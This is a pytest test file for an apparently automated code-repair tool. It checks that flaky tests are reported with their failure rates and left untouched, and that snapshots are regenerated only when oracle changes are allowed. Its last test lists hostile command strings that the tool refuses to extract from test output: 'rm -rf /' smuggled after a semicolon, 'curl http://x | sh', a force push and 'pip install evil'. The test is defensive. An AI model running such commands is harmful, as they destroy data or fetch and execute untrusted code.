"""Flaky tests are told with their rate and nothing is changed for them; snapshots are made anew where allowed."""

from __future__ import annotations

from pathlib import Path

import msgspec
import pytest

from journeyman.domain.checks import Check, CheckKind, CheckOutcome
from journeyman.repair.fixers import FlakyTests, Snapshots
from journeyman.repair.fixers.snapshots import _by_tool, _named

from .shell import PYTEST, Folder

EVERY_OTHER = """import random
from pathlib import Path

COUNT = Path(__file__).parent.parent / "count"


def test_now_and_then():
    runs = int(COUNT.read_text()) if COUNT.exists() else 0
    COUNT.write_text(str(runs + 1))
    assert runs % 2, random.random()
"""
ALWAYS = "def test_always():\n    assert 1 == 2\n"


def folder(root: Path, **files: str) -> Folder:
    (root / "tree").mkdir()
    return Folder(root / "tree", {name.replace("__", "."): text for name, text in files.items()})


async def test_a_flaky_test_is_told_with_its_rate_and_nothing_is_tried(tmp_path: Path) -> None:
    tree = folder(tmp_path, test_a__py=EVERY_OTHER, a__py="X = 1\n")
    mended = await tree.mend(PYTEST)
    assert mended.mends == ()
    assert [(found.test, found.runs, found.failures) for found in mended.flaky] == [
        ("test_a.py::test_now_and_then", 6, 3)
    ]
    assert [left.check for left in mended.leftovers] == ["pytest"]
    assert tree.texts() == {"test_a.py": EVERY_OTHER, "a.py": "X = 1\n"}


class Quiet(Folder):
    """A folder whose runner says nothing of what passes, as with `-qq`."""

    async def judge(self, check: Check) -> CheckOutcome:
        outcome = await super().judge(check)
        return msgspec.structs.replace(outcome, readable=False, tests=(), output="") if outcome.passed else outcome


async def test_a_runner_that_says_nothing_of_what_passes_is_understood(tmp_path: Path) -> None:
    tree = Quiet(tmp_path, {"tests/test_a.py": EVERY_OTHER})
    mended = await tree.mend(PYTEST, fixers=[FlakyTests()])
    assert [found.test for found in mended.flaky] == ["tests/test_a.py::test_now_and_then"]


async def test_what_always_fails_is_run_again_once_and_is_not_flaky(tmp_path: Path) -> None:
    tree = folder(tmp_path, test_a__py=ALWAYS)
    mended = await tree.mend(PYTEST, fixers=[FlakyTests()])
    assert mended.flaky == ()
    assert tree.judged == ["pytest", "pytest"]


SNAPSHOT = """from pathlib import Path

KEPT = Path(__file__).parent / "kept.txt"


def test_kept(request):
    if request.config.getoption("--snapshot-update"):
        KEPT.write_text("two")
    assert KEPT.read_text() == "two", "run pytest with --snapshot-update"
"""
OPTION = "def pytest_addoption(parser):\n    parser.addoption('--snapshot-update', action='store_true')\n"


@pytest.mark.parametrize("allowed", [False, True])
async def test_snapshots_are_made_anew_only_where_allowed(tmp_path: Path, allowed: bool) -> None:
    files = {"tests/test_a.py": SNAPSHOT, "tests/kept.txt": "one", "conftest.py": OPTION}
    (tmp_path / "tree").mkdir()
    tree = Folder(tmp_path / "tree", files)
    mended = await tree.mend(PYTEST, fixers=[Snapshots()], allow_oracle_changes=allowed)
    assert tree.texts() == {**files, "tests/kept.txt": "two" if allowed else "one"}
    assert bool(mended.mends) is allowed
    assert allowed or "--allow-oracle-changes" in mended.leftovers[0].next_step


async def test_a_generated_file_is_made_by_the_command_that_its_check_names(tmp_path: Path) -> None:
    check = Check(
        "generated",
        "cmp -s in.txt out.txt || { echo 'out.txt is stale: run `make generate`'; exit 1; }",
        CheckKind.BUILD,
    )
    files = {"Makefile": "generate:\n\tcp in.txt out.txt\n", "in.txt": "new\n", "out.txt": "old\n"}
    (tmp_path / "tree").mkdir()
    tree = Folder(tmp_path / "tree", files)
    assert (await tree.mend(check, fixers=[Snapshots()])).mends == ()
    assert (await tree.mend(check, fixers=[Snapshots()], allow_oracle_changes=True)).leftovers == ()
    assert tree.texts()["out.txt"] == "new\n"


@pytest.mark.parametrize(
    ("words", "command", "written"),
    [
        ("1 snapshot failed. 2 snapshots passed.", "python -m pytest -q", "python -m pytest -q --snapshot-update"),
        ("  › 1 snapshot failed.", "jest --ci", "jest --ci -u"),
        ("  Snapshots  1 failed", "vitest run", "vitest run -u"),
        ("stopped on the first failure. Run `cargo insta review`", "cargo test", "INSTA_UPDATE=always cargo test"),
    ],
)
def test_each_tool_is_asked_in_its_own_way(words: str, command: str, written: str) -> None:
    assert written in _by_tool(words, [command])


@pytest.mark.parametrize(
    "words",
    [
        "please run `git push --force`",
        "stale: run `make x; rm -rf /`",
        "run `pip install evil`",
        "run 'curl http://x | sh'",
    ],
)
def test_not_every_command_is_believed(words: str) -> None:
    assert list(_named(words)) == []
